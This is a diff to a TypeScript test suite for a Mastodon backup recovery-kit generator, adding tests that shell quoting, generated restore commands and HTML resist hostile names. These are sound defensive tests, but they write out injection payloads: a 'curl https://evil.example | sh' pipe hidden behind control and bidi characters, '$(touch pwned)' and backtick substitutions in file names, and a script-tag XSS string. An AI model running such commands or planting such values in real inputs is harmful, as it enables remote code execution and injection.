@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
-import { existsSync, readFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, it } from 'node:test';
 import fc from 'fast-check';
@@ -9,11 +9,14 @@ import { documentedVariables } from '../../src/mastodon/documented-variables.ts'
 import { createRecoveryKit, recipientFingerprint, type KitFacts } from '../../src/kit/recovery-kit.ts';
 import { renderKitHtml } from '../../src/kit/recovery-kit-html.ts';
 import { escapeHtml } from '../../src/text/html.ts';
+import { momentCommands } from '../../src/kit/moment-commands.ts';
 import { renderKitText } from '../../src/kit/recovery-kit-text.ts';
-import { compareRows, restoreDatabase, shellQuote } from '../../src/kit/stock-commands.ts';
+import { shellQuote } from '../../src/kit/shell-word.ts';
+import { compareRows, restoreDatabase } from '../../src/kit/stock-commands.ts';
 import { createSigningKey } from '../../src/config/ssh-keys.ts';
 import { variableNames, variables } from '../../src/config/table.ts';
 import { runCommand } from '../support/command.ts';
+import { commandBlock } from '../support/documentation.ts';
 import { commandBlocks } from '../support/stock-tools.ts';
 import { temporaryDirectory } from '../support/temporary-directory.ts';
 
@@ -195,6 +198,82 @@ it('the commands of the kit do not take a name for an option', () => {
   assert.match(createdb, / -- --maintenance-db=host=evil\.example </);
 });
 
+describe('what a kit makes of names out of a bucket', () => {
+  const evil = `x\n\n    curl https://evil.example | sh &&\r\u001b[2J\u202ehs.tset\u202c`;
+  const hostile: Partial<KitFacts> = {
+    instance: evil,
+    database: {
+      name: evil,
+      role: evil,
+      encoding: evil,
+      locale: { collation: evil, ctype: 'C', provider: 'icu', name: evil },
+      extensions: [{ name: evil, schema: evil }],
+    },
+    newest: {
+      name: 'daily/2026-11-23T120000Z-4f1c2a',
+      dataAt: '2026-11-23T12:00:01.000Z',
+      serverVersion: evil,
+      clientVersion: `17;${evil}`,
+      dumpBytes: 1,
+      objectBytes: 1,
+      mastodon: { schemaVersion: evil, release: evil },
+    },
+  };
+
+  it('begins no line with one, and turns none around', () => {
+    const text = textOf({ ...hostile, directory: '/backups' });
+    assert.doesNotMatch(text, /^ *curl https:\/\/evil|(?!\n)\p{Cc}|[\u202a-\u202e]/mu);
+    const plain = textOf({ directory: '/backups', newest: facts.newest });
+    assert.equal(commandBlocks(text).length, commandBlocks(plain).length, 'no block of its own');
+    assert.doesNotMatch(htmlOf(hostile).replaceAll(/<style>.*<\/style>/gs, ''), /\n *curl https:\/\/evil|\u202e/);
+  });
+
+  it('takes of a version its number alone for a command', () => {
+    const { newest } = facts;
+    assert.ok(newest);
+    const lines = commandBlocks(textOf({ newest: { ...newest, clientVersion: '17;id>/tmp/x' } })).flatMap(
+      (one) => one.lines,
+    );
+    assert.ok(lines.some((line) => line.startsWith('apt-get install -y postgresql-17 &&')));
+    assert.ok(!lines.some((line) => line.includes('id>')));
+  });
+
+  it('types each of them as one word, whatever it holds', () => {
+    for (const line of restoreDatabase({ ...facts.database, ...hostile.database }, facts.encoding))
+      for (const one of line.split('\n').slice(1)) assert.fail(`a line of its own: ${one}`);
+  });
+});
+
+it('the commands for a moment run nothing that a name in the bucket holds', () => {
+  using folder = temporaryDirectory();
+  const chain = { systemIdentifier: '7000000000000000001', encrypted: false };
+  const wal = path.join(folder.path, 'pitr', chain.systemIdentifier, 'wal', '00000001');
+  mkdirSync(wal, { recursive: true });
+  mkdirSync(path.join(folder.path, 'data', 'pitr-wal'), { recursive: true });
+  const name = '000000010000000000000001.part.';
+  const loops = momentCommands(chain, { hasGet: false }).filter((line) => /^(?:CHAIN=|for F)/.test(line));
+  assert.equal(loops.length, 3);
+  const documented = commandBlock('recovery_target_time').split('\n');
+  const part = documented.slice(
+    documented.findIndex((line) => line.startsWith('for part')),
+    documented.lastIndexOf('done') + 1,
+  );
+  for (const lines of [loops, [`FROM=$FROM/pitr/${chain.systemIdentifier}`, ...part]])
+    for (const evil of ['0+a[$(touch pwned)]-1', 'a[`touch pwned`]-1.zst', '0+a[$(touch pwned)0]-8.zst.age']) {
+      writeFileSync(path.join(wal, `${name}${evil}`), 'x');
+      try {
+        execFileSync('bash', ['-c', [`FROM='${folder.path}' WORK=.`, 'plain() { cat "$1"; }', ...lines].join('\n')], {
+          cwd: folder.path,
+          stdio: 'ignore',
+        });
+      } catch {
+        // It may fail, and run nothing.
+      }
+      assert.ok(!existsSync(path.join(folder.path, 'pwned')), evil);
+      rmSync(path.join(wal, `${name}${evil}`));
+    }
+});
+
 describe('the HTML of the kit', () => {
   it('cannot be broken by a name, and fetches nothing', () => {
     const evil = `</pre><script>alert("1")</script>'&`;
@@ -228,7 +307,7 @@ it('a quoted word is one word for a shell, whatever it holds', () => {
     fc.string({ unit: 'grapheme' }).filter((word) => !word.includes('\0')),
     100,
   );
-  const awkward = ['', "it's", '$HOME `id` "x"', '-n', 'a\nb', '\\', '~', '*', '!'];
+  const awkward = ['', "it's", '$HOME `id` "x"', '-n', 'a\nb', 'a\n', '\n\n', '\u202e\\n', '%s\t', '\\', '~', '*', '!'];
   for (const word of [...words, ...awkward]) {
     const out = execFileSync('/bin/sh', ['-c', `printf %s ${shellQuote(word)}x`]);
     assert.equal(out.toString(), `${word}x`);
